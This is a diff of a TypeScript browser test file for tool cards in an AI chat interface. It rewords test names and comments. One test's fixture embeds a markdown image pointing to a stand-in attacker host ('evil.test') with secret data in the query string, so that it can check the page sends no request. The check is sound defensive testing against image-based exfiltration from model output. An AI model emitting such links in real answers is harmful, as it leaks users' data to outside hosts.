@@ -4,11 +4,10 @@ import { describe, expect, test } from 'vitest'
 import { chromiumPath } from '../../support/browsers/browser.ts'
 import { gate } from '../../support/clients/talk.ts'
 import { tool } from '../../support/models/emulated.ts'
-import { stagedModel } from '../../support/models/staged-model.ts'
-import { call, text } from '../../support/models/talk-model.ts'
+import { call, stagedModel, text } from '../../support/models/scripted-model.ts'
 import { chatting } from './chat-page.ts'
 
-/** Collects what in the conversation is moved by something else. */
+/** Collects layout shifts in the conversation. */
 function watchShifts(page: Page): Promise<void> {
   return page.evaluate(`globalThis.shifts = []
     const list = document.querySelector('.message-list')
@@ -20,7 +19,7 @@ function watchShifts(page: Page): Promise<void> {
 }
 
 describe.skipIf(!chromiumPath)('tool cards in the chat', () => {
-  test('parallel cards end each by themselves, and a second round of tools shows too', async () => {
+  test('parallel cards end independently, and a second round of tools shows too', async () => {
     const gates = [gate(), gate(), gate()]
     const look = tool('look', {
       handler: async ({ n }) => {
@@ -48,7 +47,7 @@ describe.skipIf(!chromiumPath)('tool cards in the chat', () => {
     await card('look').nth(1).getByText('The door is locked.').waitFor()
   })
 
-  test('a call without an account says so and leads to where accounts are connected, also after a reload', async () => {
+  test('a call without an account says so and links to the accounts page, also after a reload', async () => {
     const handler = () => Promise.reject(new DeckhandError('NOT_CONNECTED', 'Google is not connected.'))
     const { send, card, page, becomes } = await chatting(
       [{ calls: [{ name: 'mail' }] }, { text: 'Connect it.' }],
@@ -63,7 +62,7 @@ describe.skipIf(!chromiumPath)('tool cards in the chat', () => {
     expect(page.url()).toMatch(/\/settings#accounts$/)
   })
 
-  test('a call to a service that is not set up leads to how, and offers no account to connect', async () => {
+  test('a call to a service that is not set up links to the instructions, and offers no account to connect', async () => {
     const handler = () => Promise.reject(new DeckhandError('NOT_CONNECTED', 'Slack is not set up. Set SLACK_TOKEN.'))
     const turns = [{ calls: [{ name: 'channels' }] }, { text: 'Set it up.' }]
     const { send, card, page, becomes } = await chatting(turns, [tool('channels', { handler })])
@@ -91,7 +90,7 @@ describe.skipIf(!chromiumPath)('tool cards in the chat', () => {
     expect(JSON.parse(await clipboard())).toEqual({ found: ['a key', 'a door'] })
   })
 
-  test('headings keep their order with a card open, and a remote image asks nothing of anybody', async () => {
+  test('headings keep their order with a card open, and a remote image sends no request', async () => {
     const look = tool('look', { handler: async () => '# Not a heading' })
     const words = '# Plan\n\nSee ![x](https://evil.test/p.png?data=secret)\n\n### Deep\n\nEnd.'
     const { send, card, page, becomes, url } = await chatting(
@@ -127,7 +126,7 @@ describe.skipIf(!chromiumPath)('tool cards in the chat', () => {
     await watchShifts(page)
     // The last of them: the conversation is called by its first words, above and beside it, as soon as it has a name.
     const topOf = async (words: string) => (await page.getByText(words).last().boundingBox())?.y
-    // Its middle, for it turns.
+    // Its centre, because it rotates.
     const firstIcon = () =>
       answer
         .locator('svg')
